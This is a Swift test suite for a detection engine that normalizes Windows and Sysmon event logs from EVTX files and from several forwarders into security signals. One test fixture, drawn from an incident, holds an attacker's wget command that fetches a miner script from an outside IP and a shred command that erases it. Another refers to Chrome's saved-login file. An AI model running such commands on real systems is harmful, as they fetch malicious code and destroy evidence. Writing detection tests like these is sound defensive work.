import Foundation
import Model
import Testing
@testable import AlertEngine

/// Windows events into signals: EVTX files as ingest frames them (public samples from the Rust
/// `evtx` project), and the same events as forwarders send them (Winlogbeat, NXLog, evtx_dump,
/// Splunk's XmlWinEventLog, Wazuh), each to the kind Sigma's logsource taxonomy names, with
/// Windows' own field names and ECS beside them.
@Suite struct WindowsEventTests {
    static func normalize(_ bytes: [UInt8], name: String, blockSize: Int = 1 << 20) -> (signals: [Normalized], rejected: [Rejected]) {
        let framed = Framer.frame(bytes, name: name, blockSize: blockSize)
        let registry = FormatRegistry.builtIn()
        var signals: [Normalized] = []
        var rejected = framed.rejected
        for record in framed.records {
            guard let format = registry.detect(record) else {
                rejected.append(Rejected(origin: record.origin, format: nil, reason: "unrecognized", raw: []))
                continue
            }
            do { signals += try format.normalize(record) } catch {
                rejected.append(Rejected(origin: record.origin, format: format.name, reason: error.reason, raw: []))
            }
        }
        return (signals, rejected)
    }

    static func evtx(_ name: String) throws -> [UInt8] { try Fixture.bytes("evtx/\(name)") }

    @Test func everySysmonRecordBecomesASignalOfItsCategory() throws {
        let (signals, rejected) = Self.normalize(try Self.evtx("sysmon.evtx.gz"), name: "sysmon.evtx.gz")
        #expect(rejected.isEmpty, "\(rejected.map(\.reason).prefix(3))")
        #expect(signals.count == 358)
        let kinds = Dictionary(grouping: signals, by: \.kind.name).mapValues(\.count)
        #expect(kinds == [
            "windows.process_creation": 227, "windows.process_access": 60, "windows.file_event": 34, "windows.registry_set": 24,
            "windows.registry_delete": 8, "windows.create_stream_hash": 2, "windows.network_connection": 2, "windows.sysmon_status": 1,
        ])

        let ping = try #require(signals.first { $0.field("winlog.record_id") == "1742" })
        #expect(ping.kind == .windowsProcessCreation)
        #expect(ping.time == Timestamp(parsing: "2017-12-26T13:10:29.136Z") || ping.field("SystemTime")?.hasPrefix("2017-12-26T13:10:29") == true)
        #expect(ping.field("Image") == #"C:\Windows\SysWOW64\PING.EXE"#)
        #expect(ping.field("CommandLine") == "ping  -n 6 127.0.0.1 ")
        #expect(ping.field("ParentImage") == #"C:\Windows\SysWOW64\cmd.exe"#)
        #expect(ping.field("User") == #"NT AUTHORITY\SYSTEM"#, "Windows' own value, unchanged")
        #expect(ping.fields["EventID"] == .int(1))
        #expect(ping.field("Channel") == "Microsoft-Windows-Sysmon/Operational")
        #expect(ping.field("Provider_Name") == "Microsoft-Windows-Sysmon")
        #expect(ping.field("Computer") == "DESKTOP-2KGM189")
        // ECS beside them.
        #expect(ping.field("process.executable") == #"C:\Windows\SysWOW64\PING.EXE"#)
        #expect(ping.field("process.name") == "PING.EXE")
        #expect(ping.field("process.parent.name") == "cmd.exe")
        #expect(ping.fields["process.pid"] == .int(9112))
        #expect(ping.field("host.name") == "DESKTOP-2KGM189")
        #expect(ping.field("user.name") == "SYSTEM" && ping.field("user.domain") == "NT AUTHORITY")
        #expect(ping.field("process.hash.sha256") == "8f16a431c919a0aa7c9466ec1cdc1e721f30eb5c8182835585a1b74abecb1920")
        #expect(ping.field("event.code") == "1")
        #expect(ping.sourceRef == "DESKTOP-2KGM189/Microsoft-Windows-Sysmon/Operational/1742")
        #expect(ping.title == "PING.EXE started from cmd.exe by SYSTEM on DESKTOP-2KGM189")
        #expect(ping.severity == .info)
    }

    /// An EVTX record's raw body is written from its JSON only when asked for (a hunt never
    /// asks); asked for, it is what was written at framing before: the record's JSON as read,
    /// not the copy with a stand-in time the format reads.
    @Test func anEvtxRecordsRawBodyIsItsJSONWrittenWhenAskedFor() throws {
        let bytes = try EvtxTests.bytes("sysmon.evtx.gz")
        let read = EvtxFile.read(bytes)
        let framed = Framer.frame(bytes, name: "sysmon.evtx")
        #expect(framed.records.count == 358 && read.records.count == 358)
        #expect(framed.records.map(\.raw) == read.records.map(\.event.text))
        let (signals, _) = Self.normalize(bytes, name: "sysmon.evtx")
        #expect(signals.map(\.raw) == read.records.map(\.event.text))
        // A raw body set as text is that text.
        var first = try #require(signals.first)
        first.raw = "replaced"
        #expect(first.raw == "replaced" && first.rawBody.text == "replaced")
        #expect(RawBody.json(["a": 1]).text == #"{"a":1}"#)
    }

    @Test func evtxFramingDoesNotDependOnTheReadSize() throws {
        let bytes = try Self.evtx("Security_short_selected.evtx")
        let whole = Self.normalize(bytes, name: "s.evtx")
        #expect(whole.signals.count == 7 && whole.rejected.isEmpty)
        for blockSize in [1, 7, 4095, 4097, 65_537] {
            let cut = Self.normalize(bytes, name: "s.evtx", blockSize: blockSize)
            #expect(cut.signals.map(\.raw) == whole.signals.map(\.raw), "blocks of \(blockSize)")
        }
    }

    @Test func securityEventsKeepSubjectAndTargetApart() throws {
        let (signals, rejected) = Self.normalize(try Self.evtx("new-user-security.evtx"), name: "new-user-security.evtx")
        #expect(rejected.isEmpty)
        let created = try #require(signals.first { $0.fields["EventID"] == .int(4720) })
        #expect(created.kind == .windowsEvent)
        #expect(created.field("Channel") == "Security")
        #expect(created.field("SubjectUserName") != nil && created.field("TargetUserName") != nil)
        #expect(created.field("SubjectUserName") != created.field("TargetUserName"))
        #expect(created.field("user.name") == created.field("SubjectUserName"))
        #expect(created.field("user.target.name") == created.field("TargetUserName"))
        #expect(created.title.hasPrefix("Security 4720 user account created by "))

        let (more, _) = Self.normalize(try Self.evtx("Security_short_selected.evtx"), name: "s.evtx")
        let failed = try #require(more.first { $0.fields["EventID"] == .int(4625) })
        #expect(failed.severity == .low)
        #expect(failed.title.hasPrefix("Security 4625 failed logon"))
    }

    @Test func aDamagedChunkIsReportedAndTheRestIsRead() throws {
        let (signals, rejected) = Self.normalize(try Self.evtx("sample_with_a_bad_chunk_magic.evtx.gz"), name: "bad.evtx.gz")
        let expected = try EvtxTests.expected("sample_with_a_bad_chunk_magic.expected.jsonl.gz")
        #expect(signals.count == expected.count, "\(rejected.map(\.reason))")
        #expect(!rejected.isEmpty && rejected.allSatisfy { $0.format == "evtx" && $0.origin.contains("chunk") }, "\(rejected.map(\.reason))")
    }

    @Test func aFileEndingInsideItsHeaderIsRefusedInOneLine() throws {
        let bytes = Array(try Self.evtx("issue_201.evtx").prefix(100))
        let (signals, rejected) = Self.normalize(bytes, name: "cut.evtx")
        #expect(signals.isEmpty)
        #expect(rejected.map(\.reason) == ["an EVTX file of 100 bytes ends inside its 4096-byte header"])
    }

    // MARK: forwarders

    /// Sysmon event 1742 of the sample above, as each forwarder sends it.
    static let xml = """
        <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2017-12-26T13:10:29.136000000Z'/><EventRecordID>1742</EventRecordID><Correlation/><Execution ProcessID='2284' ThreadID='5252'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>DESKTOP-2KGM189</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='UtcTime'>2017-12-26 13:10:29.134</Data><Data Name='ProcessGuid'>{94F748D5-4A45-5A42-0000-0010D265F20F}</Data><Data Name='ProcessId'>9112</Data><Data Name='Image'>C:\\Windows\\SysWOW64\\PING.EXE</Data><Data Name='CommandLine'>ping  -n 6 127.0.0.1 </Data><Data Name='CurrentDirectory'>C:\\Windows\\Temp\\</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data><Data Name='Hashes'>SHA1=CE8E487CB76704FE5FBB821A78A1E969EFBE71F9,MD5=A27A24553B2C36E139647F88DF738C35,SHA256=8F16A431C919A0AA7C9466EC1CDC1E721F30EB5C8182835585A1B74ABECB1920</Data><Data Name='ParentProcessId'>8392</Data><Data Name='ParentImage'>C:\\Windows\\SysWOW64\\cmd.exe</Data><Data Name='ParentCommandLine'>C:\\Windows\\system32\\cmd.exe /c &quot;update.bat&quot; &amp; exit</Data></EventData></Event>
        """

    static let winlogbeat = #"""
        {"@timestamp":"2017-12-26T13:10:29.136Z","event":{"code":"1","kind":"event","provider":"Microsoft-Windows-Sysmon","module":"sysmon"},"host":{"name":"DESKTOP-2KGM189"},"message":"Process Create:\nRuleName: -\nImage: C:\\Windows\\SysWOW64\\PING.EXE","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"DESKTOP-2KGM189","event_id":"1","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}","record_id":1742,"process":{"pid":2284,"thread":{"id":5252}},"user":{"identifier":"S-1-5-18","domain":"NT AUTHORITY","name":"SYSTEM","type":"User"},"version":5,"event_data":{"UtcTime":"2017-12-26 13:10:29.134","ProcessGuid":"{94F748D5-4A45-5A42-0000-0010D265F20F}","ProcessId":"9112","Image":"C:\\Windows\\SysWOW64\\PING.EXE","CommandLine":"ping  -n 6 127.0.0.1 ","CurrentDirectory":"C:\\Windows\\Temp\\","User":"NT AUTHORITY\\SYSTEM","Hashes":"SHA1=CE8E487CB76704FE5FBB821A78A1E969EFBE71F9,MD5=A27A24553B2C36E139647F88DF738C35,SHA256=8F16A431C919A0AA7C9466EC1CDC1E721F30EB5C8182835585A1B74ABECB1920","ParentProcessId":"8392","ParentImage":"C:\\Windows\\SysWOW64\\cmd.exe","ParentCommandLine":"C:\\Windows\\system32\\cmd.exe /c \"update.bat\" & exit"}}}
        """#

    static let nxlog = #"""
        {"EventTime":"2017-12-26 13:10:29","Hostname":"DESKTOP-2KGM189","Keywords":"0x8000000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":1,"OpcodeValue":0,"RecordNumber":1742,"ProcessID":2284,"ThreadID":5252,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Category":"Process Create (rule: ProcessCreate)","Opcode":"Info","UtcTime":"2017-12-26 13:10:29.134","ProcessGuid":"{94F748D5-4A45-5A42-0000-0010D265F20F}","ProcessId":"9112","Image":"C:\\Windows\\SysWOW64\\PING.EXE","CommandLine":"ping  -n 6 127.0.0.1 ","CurrentDirectory":"C:\\Windows\\Temp\\","User":"NT AUTHORITY\\SYSTEM","Hashes":"SHA1=CE8E487CB76704FE5FBB821A78A1E969EFBE71F9,MD5=A27A24553B2C36E139647F88DF738C35,SHA256=8F16A431C919A0AA7C9466EC1CDC1E721F30EB5C8182835585A1B74ABECB1920","ParentProcessId":"8392","ParentImage":"C:\\Windows\\SysWOW64\\cmd.exe","ParentCommandLine":"C:\\Windows\\system32\\cmd.exe /c \"update.bat\" & exit","EventReceivedTime":"2017-12-26 13:10:30","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
        """#

    static let wazuh = #"""
        {"timestamp":"2017-12-26T13:10:30.000+0000","rule":{"level":3,"description":"Sysmon - Event 1: Process creation PING.EXE","id":"61603","groups":["windows","sysmon"]},"agent":{"id":"007","name":"DESKTOP-2KGM189"},"manager":{"name":"wazuh-manager"},"id":"1514300000.42","decoder":{"name":"windows_eventchannel"},"data":{"win":{"system":{"providerName":"Microsoft-Windows-Sysmon","providerGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","eventID":"1","version":"5","level":"4","task":"1","opcode":"0","keywords":"0x8000000000000000","systemTime":"2017-12-26T13:10:29.1360000Z","eventRecordID":"1742","processID":"2284","threadID":"5252","channel":"Microsoft-Windows-Sysmon/Operational","computer":"DESKTOP-2KGM189","severityValue":"INFORMATION","message":"\"Process Create\""},"eventdata":{"utcTime":"2017-12-26 13:10:29.134","processGuid":"{94F748D5-4A45-5A42-0000-0010D265F20F}","processId":"9112","image":"C:\\\\Windows\\\\SysWOW64\\\\PING.EXE","commandLine":"ping  -n 6 127.0.0.1 ","currentDirectory":"C:\\\\Windows\\\\Temp\\\\","user":"NT AUTHORITY\\\\SYSTEM","hashes":"SHA1=CE8E487CB76704FE5FBB821A78A1E969EFBE71F9,MD5=A27A24553B2C36E139647F88DF738C35,SHA256=8F16A431C919A0AA7C9466EC1CDC1E721F30EB5C8182835585A1B74ABECB1920","parentProcessId":"8392","parentImage":"C:\\\\Windows\\\\SysWOW64\\\\cmd.exe","parentCommandLine":"C:\\\\Windows\\\\system32\\\\cmd.exe /c \\\"update.bat\\\" & exit"}}}}
        """#

    @Test(arguments: ["xml", "winlogbeat", "nxlog", "wazuh", "splunk-json", "splunk-json-declared", "evtx_dump"])
    func everyForwarderGivesTheSameEvent(shape: String) throws {
        let line: String
        switch shape {
        case "xml": line = Self.xml
        case "winlogbeat": line = Self.winlogbeat
        case "nxlog": line = Self.nxlog
        case "wazuh": line = Self.wazuh
        case "splunk-json":
            var quoted = ""
            JSONValue.string(Self.xml).write(to: &quoted)
            line = #"{"sourcetype":"XmlWinEventLog:Microsoft-Windows-Sysmon/Operational","host":"DESKTOP-2KGM189","_raw":"# + quoted + "}"
        case "splunk-json-declared":
            // An XML declaration and a CRLF before the event, as a Windows tool writes it.
            var quoted = ""
            JSONValue.string("<?xml version='1.0' encoding='UTF-8'?>\r\n" + Self.xml).write(to: &quoted)
            line = #"{"sourcetype":"XmlWinEventLog","host":"DESKTOP-2KGM189","_raw":"# + quoted + "}"
        default:
            // evtx_dump's JSON of the same record, from the reference parser's output.
            let expected = try EvtxTests.expected("sysmon.expected.jsonl.gz")
            line = try #require(expected.first { $0.id == 1742 }).event.text
        }
        let (signals, rejected) = Self.normalize(Array((line + "\n").utf8), name: "\(shape).log")
        #expect(rejected.isEmpty, "\(rejected.map(\.reason))")
        let s = try #require(signals.first)
        #expect(signals.count == 1)
        #expect(s.kind == .windowsProcessCreation)
        #expect(s.field("Image") == #"C:\Windows\SysWOW64\PING.EXE"#)
        #expect(s.field("CommandLine") == "ping  -n 6 127.0.0.1 ")
        #expect(s.field("ParentImage") == #"C:\Windows\SysWOW64\cmd.exe"#)
        #expect(s.field("User") == #"NT AUTHORITY\SYSTEM"#)
        #expect(s.fields["EventID"].flatMap { VendorJSON.int($0) } == 1)
        #expect(s.field("Channel") == "Microsoft-Windows-Sysmon/Operational")
        #expect(s.field("process.command_line") == "ping  -n 6 127.0.0.1 ")
        #expect(s.field("host.name") == "DESKTOP-2KGM189")
        #expect(s.field("process.hash.md5") == "a27a24553b2c36e139647f88df738c35")
        if shape != "wazuh" { #expect(s.sourceRef == "DESKTOP-2KGM189/Microsoft-Windows-Sysmon/Operational/1742") }
        if shape == "xml" || shape.hasPrefix("splunk-json") || shape == "evtx_dump" {
            #expect(s.field("ParentCommandLine")?.hasSuffix("/c \"update.bat\" & exit") == true || shape == "evtx_dump")
        }
    }

    /// Sigma's file_access and file_rename come from the Kernel-File ETW provider (its Analytic
    /// channel, or a collector writing its events).
    @Test func kernelFileEventsAreFileAccessAndRename() throws {
        func event(_ id: Int) -> String {
            "<Event><System><Provider Name='Microsoft-Windows-Kernel-File'/><EventID>\(id)</EventID><TimeCreated SystemTime='2024-05-01T10:00:00Z'/><EventRecordID>\(id)</EventRecordID><Channel>Microsoft-Windows-Kernel-File/Analytic</Channel><Computer>WS1</Computer></System><EventData><Data Name='FileName'>\\Device\\HarddiskVolume3\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data</Data></EventData></Event>"
        }
        let (signals, rejected) = Self.normalize(Array(([12, 19, 13].map(event).joined(separator: "\n") + "\n").utf8), name: "kf.xml")
        #expect(rejected.isEmpty)
        #expect(signals.map(\.kind.name) == ["windows.file_access", "windows.file_rename", "windows.event"])
        #expect(signals.first?.field("file.name") == "Login Data")
    }

    /// The title and reference are made from the fields when read: from the System's values,
    /// even when the event data repeats their names (kept as `EventData_<name>`), and a title
    /// or reference set afterwards replaces what would be made.
    @Test func titleAndReferenceReadTheSystemValues() throws {
        let line = "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4720</EventID><TimeCreated SystemTime='2024-05-01T10:00:00Z'/><EventRecordID>77</EventRecordID><Channel>Security</Channel><Computer>DC1</Computer></System><EventData><Data Name='Computer'>EVIL</Data><Data Name='Channel'>Nope</Data><Data Name='EventRecordID'>1</Data><Data Name='EventID'>1</Data><Data Name='SubjectUserName'>admin</Data><Data Name='TargetUserName'>jdoe</Data></EventData></Event>\n"
        let (signals, rejected) = Self.normalize(Array(line.utf8), name: "s.xml")
        #expect(rejected.isEmpty)
        var s = try #require(signals.first)
        #expect(s.field("EventData_Computer") == "EVIL" && s.field("Computer") == "DC1")
        #expect(s.title == "Security 4720 user account created by admin on DC1")
        #expect(s.sourceRef == "DC1/Security/77")
        s.title = "set"
        s.sourceRef = nil
        #expect(s.title == "set" && s.sourceRef == nil)
    }

    /// A data value as normalizing reads it: Windows' `-` placeholder and empty text are no
    /// value; text that only starts or ends with a dash, or is two, is kept.
    @Test func aDashAloneIsNoValue() {
        #expect(WindowsEvent.text(of: .string("-")) == nil)
        #expect(WindowsEvent.text(of: .string("")) == nil)
        #expect(WindowsEvent.text(of: nil) == nil && WindowsEvent.text(of: .null) == nil)
        for kept in ["--", "-x", "x-", " -", "- ", "\u{2010}", "\u{2212}", "-\u{301}"] {
            #expect(WindowsEvent.text(of: .string(kept)) == kept, "\(kept.unicodeScalars.map(\.value))")
        }
        #expect(WindowsEvent.text(of: .int(-1)) == "-1")
        #expect(WindowsEvent.text(of: .bool(false)) == "false")
    }

    /// Sysmon for Linux writes the same event XML to syslog (lines from a public incident's
    /// /var/log/syslog: a miner dropped with wget and curl, its script shredded).
    @Test func sysmonForLinuxIsReadAsLinuxEvents() throws {
        let (signals, rejected) = try Fixture.normalize("sysmon-linux.log")
        #expect(rejected.isEmpty, "\(rejected.map(\.reason))")
        #expect(signals.map(\.kind.name) == ["linux.process_creation", "linux.file_event", "linux.network_connection", "linux.process_creation"])
        let wget = try #require(signals.first)
        #expect(wget.field("Image") == "/usr/bin/wget" && wget.field("CommandLine") == "wget http://44.204.18.94:80/injector.sh")
        #expect(wget.field("ParentImage") == "/bin/bash" && wget.field("User") == "root")
        #expect(wget.field("host.name") == "ip-172-31-60-25" && wget.field("Channel") == "Linux-Sysmon/Operational")
        #expect(wget.title == "wget started from bash by root on ip-172-31-60-25")
        #expect(signals[1].field("TargetFilename") == "/opt/automation/injector.sh")
        #expect(signals[2].field("destination.ip") == "44.204.18.94" && signals[2].fields["destination.port"] == .int(80))
        #expect(signals[3].field("CommandLine") == "shred -u ./injector.sh")
    }

    @Test func brokenEventXMLIsRefusedInOneLineNeverCrashes() {
        let cases = [
            "<Event><System><EventID>1</EventID>", "<Event><System></Event>", "<Event a=b></Event>", "<Event>&bogus;</Event>",
            "<Event><System><EventID>1</EventID></System></Event>", String(repeating: "<Event>", count: 5_000),
            "<Event><System><Channel>Security</Channel><EventID>4624</EventID><TimeCreated SystemTime='not a time'/></System></Event>",
        ]
        for text in cases {
            let (signals, rejected) = Self.normalize(Array((text + "\n").utf8), name: "bad.xml")
            #expect(signals.isEmpty, "\(text.prefix(40))")
            #expect(rejected.count == 1 && rejected.allSatisfy { $0.reason.hasPrefix("windows: ") && !$0.reason.contains("\n") }, "\(rejected.map(\.reason))")
        }
    }
}
